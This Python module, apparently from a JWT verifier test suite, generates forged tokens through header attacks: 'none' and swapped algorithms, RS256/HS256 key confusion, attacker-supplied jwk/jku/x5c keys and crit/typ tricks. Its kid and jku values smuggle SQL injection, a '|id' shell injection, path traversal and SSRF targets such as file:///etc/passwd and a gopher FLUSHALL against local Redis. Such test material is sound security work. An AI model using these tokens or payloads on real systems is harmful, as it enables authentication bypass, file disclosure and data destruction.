# SPDX-License-Identifier: Apache-2.0
"""Attacks through the header: algorithm, keys that come with the token, key ids, extensions."""

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa, utils
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from attacks.forge import Attacks, Forge, b64, compact

WRONG_ALGORITHMS: tuple[Any, ...] = (
    "none", "None", "nOnE", "NONE", "", None, 0, 256, ["RS256"], {"alg": "RS256"}, True,
    "rs256", "Rs256", "RS256 ", " RS256", "RS256\x00", "RS-256", "RS2560", "\uff32\uff33256",
    "HS256", "RS384", "RS512", "PS256", "ES256", "EdDSA", "dir", "RSA-OAEP",
    "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
)  # fmt: skip


def algorithm_attacks(forge: Forge, claims: Mapping[str, Any]) -> Attacks:
    """Another `alg`: with no signature, with a right RS256 one, and rightly signed under that algorithm."""
    for value in WRONG_ALGORITHMS:
        header = {**forge.header, "alg": value}
        signed = forge.sign(header, claims)
        yield f"alg {value!r} over a right RS256 signature", signed
        yield f"alg {value!r} without a signature", signed[: signed.rindex(".") + 1]
    without = {name: value for name, value in forge.header.items() if name != "alg"}
    yield "no alg", forge.sign(without, claims)
    yield from _other_algorithms(forge, claims)


def _other_algorithms(forge: Forge, claims: Mapping[str, Any]) -> Attacks:
    def signing_input(algorithm: str) -> str:
        return f"{b64(compact({**forge.header, 'alg': algorithm}))}.{b64(compact(claims))}"

    for algorithm, digest in (("RS384", hashes.SHA384()), ("RS512", hashes.SHA512())):
        text = signing_input(algorithm)
        yield f"{algorithm} rightly signed", f"{text}.{b64(forge.key.sign(text.encode(), padding.PKCS1v15(), digest))}"
    text = signing_input("RS256")
    yield (
        "RS256 named but SHA-512 signed",
        f"{text}.{b64(forge.key.sign(text.encode(), padding.PKCS1v15(), hashes.SHA512()))}",
    )
    pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32)
    for algorithm in ("PS256", "RS256"):
        text = signing_input(algorithm)
        yield f"{algorithm} named and PSS signed", f"{text}.{b64(forge.key.sign(text.encode(), pss, hashes.SHA256()))}"
    text = signing_input("ES256")
    r, s = utils.decode_dss_signature(
        ec.generate_private_key(ec.SECP256R1()).sign(text.encode(), ec.ECDSA(hashes.SHA256()))
    )
    yield "ES256 rightly signed by another key", f"{text}.{b64(r.to_bytes(32) + s.to_bytes(32))}"


def confusion_attacks(forge: Forge, claims: Mapping[str, Any]) -> Attacks:
    """HMAC keyed with what is public about our key."""
    public = forge.key.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    jwk = _jwk(public, forge.kid)
    secrets = {
        "PEM": pem,
        "PEM without its last newline": pem.rstrip(b"\n"),
        "PKCS#1 PEM": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "DER": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "JWK": compact(jwk),
        "JWK n": jwk["n"].encode(),
        "modulus": public.public_numbers().n.to_bytes((forge.key.key_size + 7) // 8),
        "empty secret": b"",
    }
    for algorithm, digest in (("HS256", hashlib.sha256), ("HS384", hashlib.sha384), ("HS512", hashlib.sha512)):
        signing_input = f"{b64(compact({**forge.header, 'alg': algorithm}))}.{b64(compact(claims))}"
        for name, secret in secrets.items():
            mac = hmac.new(secret, signing_input.encode(), digest).digest()
            yield f"{algorithm} keyed with our {name}", f"{signing_input}.{b64(mac)}"


def embedded_key_attacks(forge: Forge, claims: Mapping[str, Any], *, url: str) -> Attacks:
    """The token brings its own key, or says where to get it; signed by the attacker's key and by ours."""
    own = Forge(_pem(rsa.generate_private_key(public_exponent=65537, key_size=2048)), kid=forge.kid, type=forge.type)
    jwk = _jwk(own.key.public_key(), forge.kid)
    certificate = base64.b64encode(own.key.public_key().public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo))
    embedded = {
        "jwk": jwk,
        "jku": url,
        "x5u": url,
        "x5c": [certificate.decode()],
        "x5t": b64(bytes(20)),
        "x5t#S256": b64(bytes(32)),
    }
    yield "signed by a key that nobody knows", own.good(claims)
    for name, value in embedded.items():
        yield f"header {name} and the attacker's signature", own.sign({**own.header, name: value}, claims)
        yield f"header {name} and our own right signature", forge.sign({**forge.header, name: value}, claims)
    for name in ("jku", "x5u"):
        for target in (
            "file:///etc/passwd",
            "//localhost/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "data:application/json,{}",
        ):
            yield f"header {name} {target}", own.sign({**own.header, name: target}, claims)


def kid_attacks(forge: Forge, claims: Mapping[str, Any]) -> Attacks:
    """Key ids that name nothing, or something outside."""
    values: dict[str, Any] = {
        "traversal": "../../../../dev/null",
        "absolute path": "/dev/null",
        "SQL": "' UNION SELECT 'key' --",
        "shell": "|id",
        "NUL": f"{forge.kid}\x00",
        "NUL inside": f"{forge.kid[:2]}\x00{forge.kid[2:]}",
        "10 kB": "k" * 10_000,
        "129 bytes": "k" * 129,
        "number": 1,
        "null": None,
        "list": [forge.kid],
        "object": {"kid": forge.kid},
        "empty": "",
        "other case": forge.kid.swapcase(),
        "trailing space": f"{forge.kid} ",
        "leading space": f" {forge.kid}",
        "unknown": "no-such-key",
        "prefix": forge.kid[:-1],
        "DEL": f"{forge.kid}\x7f",
        "newline": f"{forge.kid}\n",
        "full-width": "\uff4b\uff11",
        "URL": "http://127.0.0.1:9/key",
    }
    for name, value in values.items():
        if value != forge.kid:
            yield f"kid: {name}", forge.sign({**forge.header, "kid": value}, claims)
    yield "no kid", forge.sign({name: value for name, value in forge.header.items() if name != "kid"}, claims)


def header_attacks(forge: Forge, claims: Mapping[str, Any]) -> Attacks:
    """Extensions that would change the meaning of the token, and wrong types (of `typ`)."""
    crits: tuple[Any, ...] = (["exp"], ["b64"], ["alg"], [], "b64", None, {}, 1, ["urn:example:x"], [1], ["exp", "exp"])
    for value in crits:
        yield f"crit {json.dumps(value)}", forge.sign({**forge.header, "crit": value}, claims)
    yield "crit names an extension that is there", forge.sign({**forge.header, "crit": ["x"], "x": 1}, claims)
    for value in (True, False, None, "false", 0):
        yield f"b64 {json.dumps(value)}", forge.sign({**forge.header, "b64": value}, claims)
        yield f"b64 {json.dumps(value)} and crit", forge.sign({**forge.header, "b64": value, "crit": ["b64"]}, claims)
    raw = b64(compact({**forge.header, "b64": False, "crit": ["b64"]}))
    yield "b64 false and a payload as it stands", forge.sign_segments(raw, json.dumps(dict(claims)).replace(".", ""))
    for name, value in {"zip": "DEF", "enc": "A256GCM"}.items():
        yield f"header {name}", forge.sign({**forge.header, name: value}, claims)
    types: tuple[Any, ...] = (
        None,
        "",
        1,
        [forge.type],
        forge.type.upper(),
        f"{forge.type} ",
        f"application/{forge.type}",
        "JWT",
        "JOSE",
    )
    for value in types:
        yield f"typ {json.dumps(value)}", forge.sign({**forge.header, "typ": value}, claims)
    yield "no typ", forge.sign({name: value for name, value in forge.header.items() if name != "typ"}, claims)


def _jwk(key: rsa.RSAPublicKey, kid: str) -> dict[str, str]:
    numbers = key.public_numbers()
    modulus = numbers.n.to_bytes((key.key_size + 7) // 8)
    return {"kty": "RSA", "kid": kid, "use": "sig", "alg": "RS256", "n": b64(modulus), "e": b64(numbers.e.to_bytes(3))}


def _pem(key: rsa.RSAPrivateKey) -> bytes:
    return key.private_bytes(Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
